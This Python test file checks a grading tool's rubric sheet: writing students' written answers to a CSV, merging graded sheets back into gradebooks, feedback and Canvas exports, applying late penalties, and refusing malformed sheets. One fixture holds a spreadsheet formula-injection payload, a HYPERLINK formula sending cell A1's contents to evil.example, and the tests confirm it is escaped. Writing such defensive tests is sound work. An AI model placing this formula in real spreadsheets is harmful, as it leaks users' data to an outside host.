"""The written answers' round trip (tools/grading/rubric.py): the rubric sheet a run writes, and
merging a filled one back into the gradebook, the feedback and the LMS exports, the late penalty
applied; and every kind of bad sheet refused with nothing written.

A run here is written by the grader's own functions (gradebook.write_gradebook, then
rubric.record_run, as tools/grading/cli.py calls them) from results shaped as the workers return
them, so no kernel runs; the round trip on a real grading run is in tests/system/test_grading.py.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from tests.grading import hostile
from tests.grading.results import read_csv
from tools.grading import cli, gradebook, late, rubric

Q = "explain-constant-input"  # exercise 00_warmup's written answer, worth 1 point
HOSTILE_ANSWER = '=HYPERLINK("http://evil.example/?"&A1, "click")'


def result(standardise: float, one_hot: float, written: float | None, answer: str = "",
           status: str = "graded") -> dict:
    """A submission's result as a worker returns it (tools/grading/scoring.py)."""
    return {"points": {"test-standardise": standardise, "test-one-hot": one_hot, Q: written},
            "messages": {Q: "to be graded by a person" if written is None else "no answer written"},
            "status": status, "reasons": [], "answers": {Q: answer}, "seconds": 1.0}


def grade_run(out: Path, *, exports=("canvas",)) -> Path:
    """Write one run of 00_warmup into ``out`` as the grader does; return its run folder.

    alice is on time, bob two days late (20 % under 10 % a day), carol left the answer blank
    (0 points, nothing to grade), dave's file was not a notebook, and ``@eve`` (a name a
    spreadsheet would read as a formula) wrote a formula as her answer.
    """
    results = {"alice": result(2, 2, None, "All entries equal the mean: 0 / 0 is nan."),
               "bob": result(2, 0, None, "The std is zero, so we divide by zero."),
               "carol": result(2, 2, 0.0),
               "dave": {"status": "invalid", "reasons": ["not a notebook"]},
               "@eve": result(0, 0, None, HOSTILE_ANSWER)}
    entries = [(student, out / f"{student}.ipynb") for student in results]
    policy = late.LatePolicy(due=late.parse_time("2025-03-01T23:59+00:00"), per_day=10)
    times = {s: (late.parse_time("2025-03-01T12:00+00:00"), "timestamps file") for s in results}
    times["bob"] = (late.parse_time("2025-03-03T12:00+00:00"), "timestamps file")
    roster = {"alice": {"name": "Alice A", "canvas_id": "101"}}
    run_dir = gradebook.new_run_dir(out)
    gradebook.write_gradebook(entries, results, hostile.SOLUTION, hostile.ASSIGNMENT, run_dir, out,
                              policy, times)
    rubric.record_run(run_dir, hostile.SOLUTION, hostile.ASSIGNMENT, list(results), results,
                      policy, times, list(exports), roster, "777")
    return run_dir


@pytest.fixture
def run(tmp_path) -> Path:
    return grade_run(tmp_path / "graded")


def sheet_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def write_sheet(path: Path, rows: list[dict[str, str]], columns=rubric.COLUMNS,
                delimiter: str = ",") -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=columns, delimiter=delimiter, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def fill(run_dir: Path, points: dict[str, str], comments: dict[str, str] | None = None) -> Path:
    """The run's own sheet with ``points`` (and comments) filled in by student, in place."""
    rows = sheet_rows(run_dir / rubric.SHEET)
    for row in rows:
        student = row["student"].lstrip("'")
        row["points"] = points.get(student, "")
        row["comment"] = (comments or {}).get(student, "")
    return write_sheet(run_dir / rubric.SHEET, rows)


def merged_gradebooks(run_dir: Path) -> list[Path]:
    """The gradebooks that merges of ``run_dir``'s sheet wrote, oldest first (exports aside)."""
    return sorted(p for p in run_dir.parent.parent.glob(f"gradebook-{run_dir.name}-merged-*.csv")
                  if not p.stem.endswith(("-canvas", "-moodle")))


def files(folder: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under ``folder``: its content and modification time."""
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_the_sheet_lists_each_answer_to_grade_with_its_text(run):
    rows = sheet_rows(run / rubric.SHEET)
    assert list(rows[0]) == rubric.COLUMNS
    assert [(r["student"], r["question"], r["max points"], r["points"], r["comment"])
            for r in rows] == [(s, Q, "1", "", "") for s in ("alice", "bob", "'@eve")]
    assert rows[0]["answer"] == "All entries equal the mean: 0 / 0 is nan."
    # a spreadsheet shows the learner's formula as text, and never evaluates it
    assert rows[2]["answer"] == "'" + HOSTILE_ANSWER
    assert {r["assignment"] for r in rows} == {"00_warmup"}
    assert {r["run"] for r in rows} == {f"{run.name}/{rubric.load_record(run)['token']}"}
    assert "All entries equal the mean" in (run / "written-answers.md").read_text()


def test_a_long_answer_is_cut_in_the_sheet_only(tmp_path):
    out = tmp_path / "graded"
    run_dir = gradebook.new_run_dir(out)
    results = {"alice": result(2, 2, None, "why " * 10_000)}
    gradebook.write_gradebook([("alice", out / "alice.ipynb")], results, hostile.SOLUTION,
                              hostile.ASSIGNMENT, run_dir, out)
    rubric.record_run(run_dir, hostile.SOLUTION, hostile.ASSIGNMENT, ["alice"], results,
                      late.LatePolicy(), {}, [], {}, None)
    answer = sheet_rows(run_dir / rubric.SHEET)[0]["answer"]
    assert len(answer) < 32_767 and "the whole answer is in written-answers.md" in answer
    assert "why " * 10_000 in (run_dir / "written-answers.md").read_text()


def test_merge_adds_the_written_points_after_the_late_penalty(run, capsys):
    out = run.parent.parent
    before = files(out)
    sheet = fill(run, {"alice": "1", "bob": "0.5", "@eve": "0"},
                 {"alice": "Right: the standard deviation is 0.", "@eve": "A formula is no answer."})
    assert cli.main(["merge", str(sheet)]) == 0
    said = capsys.readouterr().out
    assert "merged 3 written answer(s)" in said and "every written answer is graded" in said

    merged = merged_gradebooks(run)
    assert len(merged) == 1
    rows = read_csv(merged[0])
    assert (rows["alice"][Q], rows["alice"]["points"], rows["alice"]["total"]) == ("1", "5", "5")
    # bob: 2 + 0.5 points, two days late: 20 % off everything, the written point included
    assert (rows["bob"][Q], rows["bob"]["points"], rows["bob"]["late penalty %"],
            rows["bob"]["total"]) == ("0.5", "2.5", "20", "2")
    assert (rows["carol"][Q], rows["carol"]["total"]) == ("0", "4")  # blank: scored by the grader
    assert rows["dave"]["status"] == "invalid" and rows["dave"]["total"] == "0"
    assert rows["@eve"][Q] == "0"
    assert "graded by a person: explain-constant-input" in rows["alice"]["reason"]
    assert "to be graded" not in rows["alice"]["reason"]
    assert (out / "gradebook-latest.csv").read_bytes() == merged[0].read_bytes()

    folder = run / merged[0].stem.removeprefix(f"gradebook-{run.name}-")
    feedback = (folder / "feedback" / "alice.md").read_text()
    assert "**Score:** 5 of 5 points" in feedback
    assert "| explain-constant-input | 1 / 1 | Right: the standard deviation is 0. |" in feedback
    assert "**Score:** 2 of 5 points (2.5 before a late penalty of 20 %)" in (
        folder / "feedback" / "bob.md").read_text()
    assert (folder / "gradebook.csv").read_bytes() == merged[0].read_bytes()
    with open(merged[0].with_name(merged[0].stem + "-canvas.csv"), newline="") as f:
        canvas = list(csv.reader(f))
    assert canvas[0][-1] == "00_warmup (777)" and ["Alice A", "101", "", "", "", "5"] in canvas
    assert ["bob", "", "", "", "", "2"] in canvas

    # only new files: the run's gradebook, feedback and sheet stay as they were
    after = files(out)
    changed = [name for name in before if not name.endswith(rubric.SHEET)
               and after[name] != before[name]]
    assert changed == ["gradebook-latest.csv"]
    assert before.keys() <= after.keys()


def test_merging_twice_replaces_and_never_adds(run):
    out = run.parent.parent
    sheet = fill(run, {"alice": "1", "bob": "0.5"})
    rubric.merge(sheet)
    rubric.merge(sheet)
    first, second = merged_gradebooks(run)
    assert first.read_bytes() == second.read_bytes()
    assert read_csv(second)["alice"]["total"] == "5"
    fill(run, {"alice": "0.5", "bob": "0.5"})  # a grade changed: the new sheet is the truth
    rubric.merge(sheet)
    assert read_csv(out / "gradebook-latest.csv")["alice"]["total"] == "4.5"


def test_a_partial_sheet_merges_what_is_filled_and_says_what_is_left(run, capsys):
    sheet = fill(run, {"bob": "1"})
    rubric.merge(sheet)
    said = capsys.readouterr().out
    assert "left to grade: 2 answer(s): alice · explain-constant-input, @eve · " in said
    rows = read_csv(run.parent.parent / "gradebook-latest.csv")
    assert rows["alice"][Q] == "" and "to be graded by a person" in rows["alice"]["reason"]
    assert rows["bob"][Q] == "1" and rows["bob"]["total"] == "2.4"


def test_an_empty_sheet_merges_nothing(run, capsys):
    before = files(run.parent.parent)
    assert rubric.merge(run / rubric.SHEET) == 0
    assert "nothing to merge" in capsys.readouterr().out
    assert files(run.parent.parent) == before


def test_a_sheet_saved_by_a_spreadsheet_in_another_language_reads(run):
    """Semicolons between columns, decimal commas, a byte-order mark and empty trailing rows."""
    rows = sheet_rows(run / rubric.SHEET)
    rows[0]["points"], rows[1]["points"] = "1", "0,5"
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=rubric.COLUMNS, delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    (run / rubric.SHEET).write_text("\ufeff" + buffer.getvalue() + ";;;;;;;\n", encoding="utf-8")
    rubric.merge(run / rubric.SHEET)
    assert read_csv(run.parent.parent / "gradebook-latest.csv")["bob"][Q] == "0.5"


def test_a_sheet_moved_elsewhere_needs_its_results_folder(run, tmp_path):
    moved = fill(run, {"alice": "1"}).rename(tmp_path / "Rubric - Sheet1.csv")
    before = files(run.parent.parent)
    with pytest.raises(SystemExit, match="not in its run's folder; say where the run is: --results"):
        rubric.merge(moved)
    assert files(run.parent.parent) == before
    assert cli.main(["merge", str(moved), "--results", str(run.parent.parent)]) == 0
    assert read_csv(run.parent.parent / "gradebook-latest.csv")["alice"][Q] == "1"


def test_a_later_run_keeps_the_latest_gradebook(run, capsys):
    out = run.parent.parent
    later = grade_run(out)
    assert later != run
    latest = (out / "gradebook-latest.csv").read_bytes()
    rubric.merge(fill(run, {"alice": "1"}))
    assert "gradebook-latest.csv not moved: a later run" in capsys.readouterr().out
    assert (out / "gradebook-latest.csv").read_bytes() == latest


# ---- Bad sheets: a clear error, and nothing written.

def edit_rows(edit):
    """A sheet change: ``edit(rows)`` on the filled sheet's rows (alice 1, bob 0.5)."""
    def apply(run_dir: Path) -> None:
        rows = sheet_rows(fill(run_dir, {"alice": "1", "bob": "0.5"}))
        edit(rows)
        write_sheet(run_dir / rubric.SHEET, rows)
    return apply


def set_cell(index: int, column: str, value: str):
    return edit_rows(lambda rows: rows[index].update({column: value}))


def drop_column(column: str):
    def apply(run_dir: Path) -> None:
        rows = sheet_rows(fill(run_dir, {"alice": "1"}))
        write_sheet(run_dir / rubric.SHEET, rows, [c for c in rubric.COLUMNS if c != column])
    return apply


def another_runs_sheet(run_dir: Path) -> None:
    other = grade_run(run_dir.parent.parent / "other")
    fill(other, {"alice": "1"}).replace(run_dir / rubric.SHEET)


def carol_row(rows):
    rows.append({**rows[0], "student": "carol"})


def not_utf8(run_dir: Path) -> None:
    fill(run_dir, {"alice": "1"}, {"alice": "très bien"})
    sheet = run_dir / rubric.SHEET
    sheet.write_bytes(sheet.read_text(encoding="utf-8").encode("cp1252"))


BAD_SHEETS = {
    "unknown student": (set_cell(0, "student", "mallory"), "line 2: unknown student 'mallory'"),
    "unknown question": (set_cell(0, "question", "essay"),
                         "line 2: unknown question 'essay'; this assignment's written answers are "
                         "explain-constant-input"),
    "autograded question": (set_cell(0, "question", "test-one-hot"),
                            "test-one-hot is autograded: the rubric sheet grades written answers"),
    "an answer not to grade": (edit_rows(carol_row),
                               "carol · explain-constant-input was not left to grade: the grader "
                               "gave it 0 \\(no answer written\\)"),
    "above the maximum": (set_cell(1, "points", "1.5"),
                          "line 3: points 1.5 for bob · explain-constant-input are more than its "
                          "maximum, 1"),
    "negative": (set_cell(1, "points", "-0.5"), "points -0.5 for bob .* are negative"),
    "a word": (set_cell(1, "points", "half"), "points 'half' for bob .* is not a number"),
    "NaN": (set_cell(1, "points", "nan"), "points 'nan' for bob .* is not a number"),
    "a changed maximum": (set_cell(0, "max points", "2"),
                          "max points '2' for explain-constant-input: the question is worth 1"),
    "missing points column": (drop_column("points"), "missing column\\(s\\) 'points'"),
    "missing run column": (drop_column("run"), "missing column\\(s\\) 'run'; it needs assignment, "
                                               "run, student"),
    "a duplicated row": (edit_rows(lambda rows: rows.append(dict(rows[0]))),
                         "line 5: alice · explain-constant-input again \\(first on line 2\\)"),
    "a row of another run": (set_cell(1, "run", "20250101-000000/0badc0de"),
                             "line 3: run '20250101-000000/0badc0de'.* from another run's sheet"),
    "a row of another assignment": (set_cell(1, "assignment", "02_forward_pass"),
                                    "line 3: assignment '02_forward_pass': this run graded "
                                    "'00_warmup'"),
    "another run's sheet": (another_runs_sheet,
                            "1 problem\\(s\\); nothing was merged.*\n.*the sheet is from another "
                            "run or assignment"),
    "not UTF-8": (not_utf8, "not UTF-8 text; save it as 'CSV UTF-8'"),
}


@pytest.mark.parametrize("kind", sorted(BAD_SHEETS))
def test_a_bad_sheet_is_refused_and_nothing_is_written(run, kind):
    spoil, message = BAD_SHEETS[kind]
    spoil(run)
    out = run.parent.parent
    before = files(out)
    with pytest.raises(SystemExit, match=message):
        cli.main(["merge", str(run / rubric.SHEET)])
    assert files(out) == before, kind
    assert not list(out.glob("gradebook-*-merged-*"))


def test_every_problem_is_listed_at_once(run):
    rows = sheet_rows(fill(run, {"alice": "2", "bob": "x"}))
    write_sheet(run / rubric.SHEET, rows)
    with pytest.raises(SystemExit, match="2 problem\\(s\\); nothing was merged, nothing was written"
                                         ":\n  line 2: .*\n  line 3: "):
        rubric.merge(run / rubric.SHEET)


def test_points_are_numbers_and_nothing_else():
    for text, value in [("2", 2.0), ("0.5", 0.5), ("0,5", 0.5), (".5", 0.5), ("+1", 1.0),
                        ("-1", -1.0)]:
        assert rubric.parse_points(text) == value, text
    for text in ("", "nan", "inf", "1e3", "1_0", "½", "1/2", "50%", "0x1", "1.2.3"):
        assert rubric.parse_points(text) is None, text


def test_a_run_folder_without_a_record_is_refused(tmp_path):
    sheet = write_sheet(tmp_path / "rubric.csv", [])
    with pytest.raises(SystemExit, match="neither a run's folder"):
        rubric.merge(sheet, tmp_path)
    assert os.listdir(tmp_path) == ["rubric.csv"]
